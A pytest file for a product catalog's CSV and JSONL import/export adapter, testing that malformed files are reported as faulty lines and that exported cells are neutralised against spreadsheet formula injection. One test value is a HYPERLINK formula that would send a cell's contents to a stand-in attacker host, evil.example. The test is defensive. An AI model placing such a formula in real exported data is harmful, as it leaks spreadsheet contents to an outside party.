"""What cannot be read is reported by its line, and what was written is read as it was."""

import csv
from pathlib import Path

import pytest

from services.catalog.adapters.interchange import COLUMNS, ProductRow, VariantRow, csv_rows, read
from services.catalog.domain.products import Texts


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("deep.jsonl", b'{"type": "product", "options": ' + b"[" * 100_000),
        ("deep.csv", b"slug,sku,price,options\na,A,1," + b"[" * 100_000 + b"\n"),
        ("utf16.csv", "slug,sku,price\n".encode("utf-16")),
        ("half.csv", b"slug,sku,price\na,\xff,1\n"),
        ("open.csv", b'"slug,sku\n'),
        ("far.jsonl", b'{"type": "category", "slug": "a", "names": {"ko": "b"}, "position": 99999999999}'),
        ("before.jsonl", b'{"type": "category", "slug": "a", "names": {"ko": "b"}, "position": -1}'),
    ],
)
def test_a_file_that_cannot_be_read_is_a_line_with_a_fault(tmp_path: Path, name: str, content: bytes) -> None:
    file = tmp_path / name
    file.write_bytes(content)
    (found,) = read(file)
    assert found.row is None and found.fault


FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+82 10", "-5 kg", "@home", "\uff1d1+1", f"'{FORMULA}", f"''{FORMULA}", "'90s", "A=B", "9"],
)
def test_no_text_is_a_formula_to_a_spreadsheet_and_each_is_read_as_it_was(tmp_path: Path, text: str) -> None:
    row = ProductRow(
        slug="shoe",
        category="shoes",
        texts={"ko": Texts(text, text)},
        variants=[VariantRow("A", 1), VariantRow("B", 1)],
        brand=text,
        keywords=[text, "good", text],
    )
    rows = csv_rows(row)
    # Some spreadsheets part cells at semicolons, too.
    cells = [part for each in rows for cell in each.values() for part in cell.split(";")]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d"))]
    file = tmp_path / "all.csv"
    with file.open("w", encoding="utf-8", newline="") as lines:
        writer = csv.DictWriter(lines, COLUMNS)
        writer.writeheader()
        writer.writerows(rows)
    assert [found.row for found in read(file)] == [row]
